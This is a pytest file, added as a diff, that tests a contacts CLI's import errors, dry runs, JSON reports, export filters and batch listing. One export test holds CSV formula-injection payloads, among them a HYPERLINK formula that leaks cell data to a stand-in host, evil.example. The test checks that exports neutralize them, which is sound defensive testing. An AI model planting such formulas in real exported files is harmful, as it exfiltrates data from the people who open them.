@@ -1,0 +1,364 @@
+"""The `contacts` command line: exit codes, exact stderr lines, and what is (not) written.
+
+Only the tests marked with the `prefect_server` fixture run the import flow; the rest
+set up their database through the library (`workspace.run_import`) and stay fast.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import json
+from datetime import datetime
+from pathlib import Path
+
+import pytest
+
+from store.db import Store, now
+
+FIXTURES = Path(__file__).parent / "fixtures"
+
+# PRODUCT.md section 8, in its order.
+SECTION_8_KEYS = [
+    "batch_id", "source", "sha256", "status", "rows_total", "imported", "updated",
+    "duplicates_in_file", "duplicates_existing", "duplicates_skipped", "invalid", "dnc",
+    "campaign_excluded_dnc", "mapping", "rejects_file", "started_at", "finished_at",
+]  # fmt: skip
+REJECT_COLUMNS = ["row", "reason", "message", "suggested_phone"]
+UTF8_MAPPING = "First Name -> first_name, Last Name -> last_name, Phone -> phone, " \
+               "Email -> email, Company -> company"  # fmt: skip
+
+
+def fixture(name: str) -> str:
+    return str(FIXTURES / name)
+
+
+def nothing_written(workspace) -> bool:
+    return not workspace.db.exists() and not (workspace.data_dir / "batches").exists()
+
+
+def fingerprint(workspace) -> tuple[str, list[str]]:
+    """The database's bytes and the batch folders: both must survive a failed import."""
+    batches = workspace.data_dir / "batches"
+    folders = sorted(p.name for p in batches.iterdir()) if batches.exists() else []
+    return hashlib.sha256(workspace.db.read_bytes()).hexdigest(), folders
+
+
+def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
+    with path.open(newline="", encoding="utf-8") as handle:
+        reader = csv.DictReader(handle)
+        rows = list(reader)
+        return list(reader.fieldnames or []), rows
+
+
+def add_dnc(db: Path, phone: str) -> None:
+    with Store.open(db) as store:
+        store.run(
+            "INSERT INTO dnc_events (phone, action, source, reason, actor, occurred_at) "
+            "VALUES (?, 'add', 'manual', 'test', 'pytest', ?)",
+            [phone, now()],
+        )
+
+
+# --- import: batch-level failures (these run the flow, as users do) ---------------------
+
+EMPTY = "is empty; export the contacts again with a header row"
+CP1251 = (
+    "is not UTF-8 and not Western European text (it may be cp1251); "
+    "re-export it as UTF-8 or pass --encoding"
+)
+NO_PHONE = (
+    "no phone column found (columns: 'First Name', 'Last Name', 'Email', 'Company'); "
+    "name it with --map 'COLUMN=phone'"
+)
+UTF8_COLUMNS = "First Name, Last Name, Phone, Email, Company"
+# (case, fixture file or a path made in the test, extra args, exit code, stderr message)
+FAILURES = [
+    ("missing_file", "<missing>", [], 1, "{path}: no such file; check the path"),
+    ("directory", "<directory>", [], 1, "{path}: is a directory; "
+                                        "pass a .csv, .tsv, .txt or .xlsx file"),
+    ("empty_file", "empty.csv", [], 1, "{path}: " + EMPTY),
+    ("whitespace_only", "whitespace_only.csv", [], 1, "{path}: " + EMPTY),
+    ("binary_file", "binary.csv", [], 1, "{path}: is not a text file (binary content); "
+                                         "export it as CSV or XLSX"),
+    ("cp1251_refused", "cp1251_cyrillic.csv", [], 1, "{path}: " + CP1251),
+    ("no_phone_column", "no_phone_column.csv", [], 1, NO_PHONE),
+    (
+        "map_missing_column", "utf8.csv", ["--map", "Mobile=phone"], 2,
+        f"--map names column 'Mobile', which the file does not have; its columns are: "
+        f"{UTF8_COLUMNS}",
+    ),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("file", "extra", "code", "message"), [f[1:] for f in FAILURES], ids=[f[0] for f in FAILURES]
+)
+def test_import_that_cannot_run_exits_with_one_line_and_writes_nothing(
+    cli, workspace, prefect_server, file, extra, code, message
+) -> None:
+    path = fixture(file)
+    if file == "<missing>":
+        path = str(workspace.root / "nope.csv")
+    elif file == "<directory>":
+        path = str(workspace.root / "exports")
+        Path(path).mkdir()
+    result = cli("import", path, *extra, "--json")
+    assert result.exit_code == code
+    assert result.stderr == f"Error: {message.format(path=path)}\n"
+    assert result.stdout == ""
+    assert nothing_written(workspace)
+
+
+@pytest.mark.parametrize(
+    ("file", "extra", "code"),
+    [("no_phone_column.csv", [], 1), ("utf8.csv", ["--map", "Mobile=phone"], 2)],
+    ids=["no_phone_column", "map_missing_column"],
+)
+def test_failed_import_leaves_an_existing_database_unchanged(
+    cli, workspace, prefect_server, file, extra, code
+) -> None:
+    workspace.run_import(FIXTURES / "ragged_rows.csv")
+    before = fingerprint(workspace)
+    result = cli("import", fixture(file), *extra)
+    assert (result.exit_code, result.stdout) == (code, "")
+    assert len(result.stderr.splitlines()) == 1
+    assert fingerprint(workspace) == before
+
+
+# --- import: usage errors (refused before any file or database is touched) -------------
+
+USAGE = [
+    (
+        ["import", fixture("utf8.csv"), "--map", "Phone=telephone"],
+        "--map 'Phone=telephone': unknown field 'telephone'; use one of phone, "
+        "phone_extension, first_name, last_name, full_name, email, company, title, country, "
+        "attribute, ignore",
+    ),
+    (
+        ["import", fixture("utf8.csv"), "--map", "Phone"],
+        "--map 'Phone' is not COLUMN=FIELD, e.g. --map 'Cell=phone'",
+    ),
+    (
+        ["import", fixture("utf8.csv"), "--on-duplicate", "merge"],
+        "--on-duplicate 'merge' is not one of skip, update, fill",
+    ),
+    (
+        ["import", fixture("utf8.csv"), "--region", "XX"],
+        "--region 'XX' is not a known region; use e.g. US, GB",
+    ),
+    (
+        ["import", fixture("utf8.csv"), "--region", "Narnia"],
+        "--region 'Narnia' is not a known region; use e.g. US, GB",
+    ),
+    (["import", fixture("utf8.csv"), "--campaign", " "], "--campaign needs a name"),
+    (["import"], "Missing argument 'file'."),
+    (["import", fixture("utf8.csv"), "--bogus"], "No such option: --bogus"),
+    (
+        ["export", "--out", "x.csv", "--status", "bogus"],
+        "--status 'bogus' is not one of active, dnc",
+    ),
+]
+USAGE_IDS = [
+    "unknown_map_field", "map_without_field", "bad_on_duplicate", "bad_region_code",
+    "bad_region_name", "blank_campaign", "missing_argument", "unknown_option", "bad_export_status",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("args", "message"), USAGE, ids=USAGE_IDS)
+def test_usage_error_exits_2_with_one_line(cli, workspace, monkeypatch, args, message) -> None:
+    monkeypatch.chdir(workspace.root)
+    result = cli(*args)
+    assert (result.exit_code, result.stdout) == (2, "")
+    assert result.stderr == f"Error: {message}\n"
+    assert nothing_written(workspace)
+    assert not (workspace.root / "x.csv").exists()
+
+
+def test_unknown_encoding_is_a_usage_error(cli, workspace, prefect_server) -> None:
+    result = cli("import", fixture("utf8.csv"), "--encoding", "klingon")
+    assert result.exit_code == 2
+    assert result.stderr.startswith("Error: ")
+    assert "--encoding" in result.stderr
+    assert nothing_written(workspace)
+
+
+# --- import: dry run -----------------------------------------------------------------
+
+
+def test_dry_run_prints_the_mapping_and_writes_nothing(cli, workspace) -> None:
+    path = fixture("utf8.csv")
+    result = cli("import", path, "--dry-run")
+    assert (result.exit_code, result.stderr) == (0, "")
+    lines = result.stdout.splitlines()
+    assert lines[0] == f"Dry run of {path}: nothing was written"
+    assert f"  mapping     {UTF8_MAPPING}" in lines
+    assert "  rows                4" in lines
+    assert nothing_written(workspace)
+    assert not workspace.data_dir.exists()
+
+
+def test_dry_run_compares_with_the_database_without_changing_it(cli, workspace) -> None:
+    workspace.run_import(FIXTURES / "utf8.csv")
+    before = fingerprint(workspace)
+    result = cli("import", fixture("utf8_bom.csv"), "--dry-run")
+    assert result.exit_code == 0
+    assert "  duplicates          4   (0 within the file, 4 already stored)" in result.stdout
+    assert fingerprint(workspace) == before
+
+
+def test_encoding_hint_works_for_the_refused_cp1251_file(cli, workspace) -> None:
+    result = cli("import", fixture("cp1251_cyrillic.csv"), "--encoding", "cp1251", "--dry-run")
+    assert (result.exit_code, result.stderr) == (0, "")
+    assert "  rows                3" in result.stdout.splitlines()
+    assert nothing_written(workspace)
+
+
+def test_dry_run_of_a_classic_mac_csv_does_not_crash(cli, workspace) -> None:
+    result = cli("import", fixture("cr_line_endings.csv"), "--dry-run")
+    assert result.exit_code == 0
+    assert "  rows                2" in result.stdout.splitlines()
+
+
+# --- import: success through the flow --------------------------------------------------
+
+
+def test_import_json_prints_one_object_with_the_section_8_keys(
+    cli, workspace, prefect_server
+) -> None:
+    path = fixture("ragged_rows.csv")
+    result = cli("import", path, "--json")
+    assert (result.exit_code, result.stderr) == (0, "")
+    assert len(result.stdout.splitlines()) == 1
+    stats = json.loads(result.stdout)
+    assert list(stats) == SECTION_8_KEYS
+    assert stats["status"] == "completed"
+    assert stats["source"] == path
+    assert stats["sha256"] == hashlib.sha256(Path(path).read_bytes()).hexdigest()
+    assert {k: stats[k] for k in SECTION_8_KEYS[4:13]} == {
+        "rows_total": 5, "imported": 3, "updated": 0, "duplicates_in_file": 0,
+        "duplicates_existing": 0, "duplicates_skipped": 0, "invalid": 2, "dnc": 0,
+        "campaign_excluded_dnc": 0,
+    }  # fmt: skip
+    assert stats["mapping"] == {
+        "First Name": "first_name", "Last Name": "last_name", "Phone": "phone",
+        "Company": "company",
+    }  # fmt: skip
+    assert datetime.fromisoformat(stats["started_at"]) <= datetime.fromisoformat(
+        stats["finished_at"]
+    )
+
+    rejects = Path(stats["rejects_file"])
+    assert rejects == workspace.data_dir / "batches" / stats["batch_id"] / "rejects.csv"
+    columns, rows = read_csv(rejects)
+    assert columns == ["First Name", "Last Name", "Phone", "Company", *REJECT_COLUMNS]
+    assert [(r["row"], r["reason"]) for r in rows] == [("3", "malformed_row"), ("5", "missing")]
+    report = json.loads((rejects.parent / "report.json").read_text(encoding="utf-8"))
+    assert {k: report[k] for k in SECTION_8_KEYS} == stats
+
+
+def test_reimporting_the_same_file_imports_nothing(cli, workspace, prefect_server) -> None:
+    path = fixture("duplicate_phones.csv")
+    first = json.loads(cli("import", path, "--json").stdout)
+    result = cli("import", path, "--json")
+    assert result.exit_code == 0
+    again = json.loads(result.stdout)
+    assert again["batch_id"] != first["batch_id"]
+    assert (again["rows_total"], again["imported"], again["updated"]) == (5, 0, 0)
+    assert (again["duplicates_existing"], again["duplicates_in_file"]) == (2, 3)
+    _, rows = read_csv(Path(again["rejects_file"]))
+    assert len(rows) == again["rows_total"]  # every row is a duplicate (or a reject)
+    assert {r["reason"] for r in rows} == {"duplicate_existing", "duplicate_in_file"}
+    assert [r["row"] for r in rows] == ["1", "2", "3", "4", "5"]
+
+
+# --- export ----------------------------------------------------------------------------
+
+EXPORT_COLUMNS = [
+    "phone", "first_name", "last_name", "email", "company", "title", "status",
+    "last_called_at", "call_count",
+]  # fmt: skip
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_export_neutralizes_formulas_but_not_the_e164_phone(cli, workspace) -> None:
+    workspace.run_import(FIXTURES / "formula_payloads.csv")
+    out = workspace.root / "out" / "contacts.csv"
+    result = cli("export", "--out", str(out))
+    assert (result.exit_code, result.stderr) == (0, "")
+    assert result.stdout == f"Exported 4 contacts to {out}\n"
+    columns, rows = read_csv(out)
+    assert columns[: len(EXPORT_COLUMNS)] == EXPORT_COLUMNS
+    by_phone = {r["phone"]: (r["first_name"], r["company"]) for r in rows}
+    assert by_phone == {
+        "+16502530000": ('\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "Acme"),
+        "+12127365000": ("'+SUM(A1)", "'-2+3"),
+        "+442079460000": ("'-2+3", "'@cmd"),
+        "+16172531000": ("'@cmd", "Globex"),
+    }
+    for row in rows:
+        dangerous = [k for k, v in row.items() if k != "phone" and v.startswith(FORMULA_START)]
+        assert dangerous == []
+
+
+EXPORTS = [
+    ([], {"+16502530000", "+12127365000", "+442079460000", "+16172531000"}),
+    (["--status", "active"], {"+16502530000", "+442079460000", "+16172531000"}),
+    (["--status", "dnc"], {"+12127365000"}),
+    (["--callable"], {"+16502530000", "+442079460000", "+16172531000"}),
+    (["--search", "650.253.0000"], {"+16502530000"}),
+    (["--search", "+1 (617) 253-1000"], {"+16172531000"}),
+    (["--search", "020 7946 0000", "--region", "GB"], {"+442079460000"}),
+    (["--search", "(212) 736 5000", "--status", "dnc"], {"+12127365000"}),
+    (["--search", "212.736.5000", "--callable"], set()),
+    (["--search", "müller"], {"+16502530000"}),
+]
+EXPORT_IDS = [
+    "all", "status_active", "status_dnc", "callable", "search_dotted", "search_e164_spaced",
+    "search_national_gb", "search_dnc", "search_callable_dnc", "search_name",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("args", "phones"), EXPORTS, ids=EXPORT_IDS)
+def test_export_filters(cli, workspace, args: list[str], phones: set[str]) -> None:
+    workspace.run_import(FIXTURES / "utf8.csv")
+    add_dnc(workspace.db, "+12127365000")
+    out = workspace.root / "selection.csv"
+    result = cli("export", "--out", str(out), *args)
+    assert (result.exit_code, result.stderr) == (0, "")
+    assert result.stdout == f"Exported {len(phones)} contacts to {out}\n"
+    _, rows = read_csv(out)
+    assert {r["phone"] for r in rows} == phones
+    assert all(r["status"] == ("dnc" if r["phone"] == "+12127365000" else "active") for r in rows)
+
+
+# --- batches ---------------------------------------------------------------------------
+
+
+def test_batches_json_before_any_import_is_an_empty_list(cli, workspace) -> None:
+    result = cli("batches", "--json")
+    assert (result.exit_code, result.stdout, result.stderr) == (0, "[]\n", "")
+    assert not workspace.db.exists()
+
+
+def test_batches_json_lists_batches_newest_first(cli, workspace) -> None:
+    first = workspace.run_import(FIXTURES / "utf8.csv")
+    second = workspace.run_import(FIXTURES / "ragged_rows.csv")
+    result = cli("batches", "--json")
+    assert (result.exit_code, result.stderr) == (0, "")
+    rows = json.loads(result.stdout)
+    assert [r["id"] for r in rows] == [second.batch_id, first.batch_id]
+    newest = rows[0]
+    assert newest["status"] == "completed"
+    assert newest["source"] == str(FIXTURES / "ragged_rows.csv")
+    assert newest["sha256"] == second.sha256
+    counts = ("rows_total", "imported", "updated", "duplicates_in_file", "invalid")
+    assert {k: newest[k] for k in counts} == {k: getattr(second, k) for k in counts}
+    assert newest["mapping"] == second.mapping
+
+
+def test_batch_show_of_an_unknown_id_names_the_command_that_lists_them(cli, workspace) -> None:
+    workspace.run_import(FIXTURES / "utf8.csv")
+    result = cli("batch", "show", "nope")
+    assert result.exit_code == 1
+    assert result.stderr == "Error: no batch 'nope'; list them with 'contacts batches'\n"
